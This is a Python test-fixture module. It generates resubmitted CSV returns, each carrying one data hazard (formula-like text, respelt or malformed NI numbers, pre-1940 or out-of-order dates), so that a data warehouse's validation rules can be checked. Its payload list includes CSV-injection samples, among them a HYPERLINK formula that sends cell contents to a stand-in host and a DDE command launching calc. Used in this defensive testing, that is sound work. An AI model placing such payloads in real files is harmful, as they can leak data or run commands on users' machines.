"""Value hazards (issues 17 and 18, returns.md's problem table and "Identifiers"): the values partners really
send that a clean generator never does.

- text a spreadsheet would run as a formula (`=HYPERLINK(...)`, `+44 ...`, `-`, `@SUM`, a leading tab or
  carriage return, or one of those after spaces the warehouse trims): ERROR;
- NI numbers written another way (`ab 12 34 56 c`, `AB-123456-C`, a zero-width or non-breaking space,
  full-width characters): the same person; NI numbers of another shape (`N/A`, five digits): WARN;
- placeholder dates before 1940 (`1900-01-01`): ERROR; a vacancy started before it was approved: ERROR;
- a start date after the return's month (a future starter) and recruitment stages out of order: WARN.

`write_value_hazards(landing)` takes a clean landing folder and writes, beside chosen returns, a resubmission
`<submitter>__v<N+1>.csv` carrying one hazard, and returns what the warehouse must do with each. A
quarantined resubmission leaves the clean version current, so the folder still publishes. This module does
not import the warehouse: it states the rules independently of the code that enforces them.
"""

from __future__ import annotations

import csv
import io
import random
import re
from dataclasses import dataclass
from pathlib import Path

# Text a spreadsheet would run: the first character (as received, or after trimmed whitespace) is one of
# = + - @ tab CR (OWASP, CSV injection).
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "=1+1",
    "+44 116 000 0000",
    "-",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\tLeading tab",
    "  =trimmed to a formula",
    "\u00a0+1",  # a non-breaking space the warehouse trims
)
# Look-alikes that are plain text: the rule must not fire on them.
PLAIN_LOOKALIKES = ("a=b", "65+", "<25", "Band 8a", "O'Neil & Sons", "team@partner", "\u200b=not first", "")

NI = "QQ123456C"
MALFORMED_NI = ("N/A", "QQ12345C", "123456789", "QQ123456E", "TN 01 01 80 M")
OLD_DATES = ("1900-01-01", "1899-12-30", "1939-12-31")
EARLIEST_DATE = "1940-01-01"
STAGES = ("approved_date", "advert_date", "offer_date", "checks_complete_date", "start_date")


def ni_spellings(ni: str = NI) -> list[str]:
    """One NI number written as partners write it: every one is the same person."""
    spaced = f"{ni[:2]} {ni[2:4]} {ni[4:6]} {ni[6:8]} {ni[8:]}"
    return [
        ni,
        spaced.lower(),
        f"{ni[:2]}-{ni[2:8]}-{ni[8:]}",
        f"{ni[:4]}\u200b{ni[4:]}",
        spaced.replace(" ", "\u00a0"),
        "".join(chr(ord(c) + 0xFEE0) for c in ni),  # full-width letters and digits
        f" {ni.lower()}\t",
    ]


@dataclass(frozen=True)
class Expected:
    """What the warehouse must do with one hazard file."""

    path: str  # relative to the landing folder
    kind: str
    status: str  # quarantined | accepted with warnings | accepted
    severity: str | None  # of the problem it must report (None: no problem)
    column: str | None


def _read(path: Path) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def _write(path: Path, header: list[str], rows: list[list[str]]) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _next_version(path: Path) -> Path:
    match = re.match(r"^(?P<submitter>.+?)(?:__v(?P<n>[0-9]+))?$", path.stem)
    assert match is not None
    resubmitted = path.parent.glob(f"{match['submitter']}__v*{path.suffix}")
    versions = [int(p.stem.split("__v")[1]) for p in resubmitted]
    return path.with_name(f"{match['submitter']}__v{max([1, *versions]) + 1}{path.suffix}")


# Text columns per source (the contract's, identifiers and the partner register's names included).
TEXT_COLUMNS = {
    "ics_partners": ("org_code", "org_name", "org_type"),
    "nhs_esr_staff": ("org_code", "staff_group", "occupation_code"),
    "nhs_recruitment": ("vacancy_reference", "staff_group"),
    "nhs_pwr": ("staff_group",),
    "asc_wds_workers": ("establishment_id", "main_job_role", "leave_reason"),
    "asc_wds_establishments": ("establishment_name", "cqc_location_id", "main_service"),
    "cqc_ratings": ("location_id", "location_name", "ods_code"),
    "nhs_published_sickness": ("ORG_NAME", "ICS_NAME"),
}
DATE_COLUMNS = {
    "nhs_esr_staff": ("assignment_start_date", "nhs_start_date"),
    "nhs_recruitment": ("approved_date", "advert_date"),
    "asc_wds_workers": ("start_date_in_role", "start_date_in_sector"),
    "cqc_ratings": ("publication_date",),
}
FUTURE_START = {"nhs_esr_staff": "assignment_start_date", "asc_wds_workers": "start_date_in_role"}


def _month_after(period: str) -> str:
    year, month = int(period[:4]), int(period[5:7])
    return f"{year + (month == 12)}-{1 if month == 12 else month + 1:02d}-15"


def write_value_hazards(landing: Path, seed: int = 0) -> list[Expected]:
    """Resubmissions of clean returns, each with one value hazard, beside the originals in `landing`."""
    rng = random.Random(seed)
    out: list[Expected] = []

    def returns(source: str) -> list[Path]:
        return sorted(p for p in (landing / source).glob("*/*.csv") if "__v" not in p.stem)

    def resubmit(original: Path, kind: str, status: str, severity: str | None, column: str | None, change) -> None:
        header, rows = _read(original)
        index = {name.strip().lower(): i for i, name in enumerate(header)}
        row = rng.randrange(len(rows))
        change(rows, row, index)
        target = _next_version(original)
        _write(target, header, rows)
        out.append(Expected(target.relative_to(landing).as_posix(), kind, status, severity, column))

    pool = [p for p in FORMULA_PAYLOADS]
    rng.shuffle(pool)
    for source, columns in TEXT_COLUMNS.items():
        files = returns(source)
        if not files:
            continue
        column = rng.choice(columns)
        payload = pool[len(out) % len(pool)]

        def put(rows, row, index, column=column, payload=payload):
            rows[row][index[column.lower()]] = payload

        resubmit(rng.choice(files), "formula-like text", "quarantined", "ERROR", column.lower(), put)
    for source, columns in DATE_COLUMNS.items():
        files = returns(source)
        if not files:
            continue
        column = rng.choice(columns)

        def old(rows, row, index, column=column):
            rows[row][index[column]] = rng.choice(OLD_DATES)

        resubmit(rng.choice(files), "date before 1940", "quarantined", "ERROR", column, old)
    for source, column in FUTURE_START.items():
        files = returns(source)
        if files:
            original = rng.choice(files)

            def future(rows, row, index, column=column, period=original.parent.name):
                rows[row][index[column]] = _month_after(period)

            resubmit(original, "start date after the period", "accepted with warnings", "WARN", column, future)
    recruitment = [p for p in returns("nhs_recruitment") if _complete_stage_row(p) is not None]
    if recruitment:
        original = rng.choice(recruitment)
        row = _complete_stage_row(original)

        def swap(rows, _, index, row=row):
            cells = rows[row]
            cells[index["advert_date"]], cells[index["offer_date"]] = (
                cells[index["offer_date"]],
                cells[index["advert_date"]],
            )

        _resubmit_row(
            landing, original, out, "stages out of order", "accepted with warnings", "WARN", "offer_date", swap
        )

        def before_approval(rows, _, index, row=row):
            cells = rows[row]
            cells[index["approved_date"]] = _month_after(original.parent.name)

        _resubmit_row(
            landing, original, out, "start before approval", "quarantined", "ERROR", "approved_date", before_approval
        )
    for source in ("nhs_esr_staff", "asc_wds_workers"):
        files = returns(source)
        if not files:
            continue
        original = rng.choice(files)

        def respell(rows, row, index):
            for cells in rows:
                value = cells[index["ni_number"]]
                if value:
                    cells[index["ni_number"]] = rng.choice(ni_spellings(value.strip().upper()))

        resubmit(original, "NI numbers respelt", "accepted", None, None, respell)
        original = rng.choice(files)

        def malformed(rows, row, index):
            rows[row][index["ni_number"]] = rng.choice(MALFORMED_NI)

        resubmit(original, "NI number of another shape", "accepted with warnings", "WARN", "ni_number", malformed)
    return out


def _complete_stage_row(path: Path) -> int | None:
    """The first row with every stage date present and advert strictly before offer."""
    header, rows = _read(path)
    index = {name.strip().lower(): i for i, name in enumerate(header)}
    for number, cells in enumerate(rows):
        dates = [cells[index[s]] for s in STAGES]
        if all(dates) and dates[1] < dates[2]:
            return number
    return None


def _resubmit_row(landing: Path, original: Path, out: list, kind, status, severity, column, change) -> None:
    header, rows = _read(original)
    index = {name.strip().lower(): i for i, name in enumerate(header)}
    change(rows, None, index)
    target = _next_version(original)
    _write(target, header, rows)
    out.append(Expected(target.relative_to(landing).as_posix(), kind, status, severity, column))
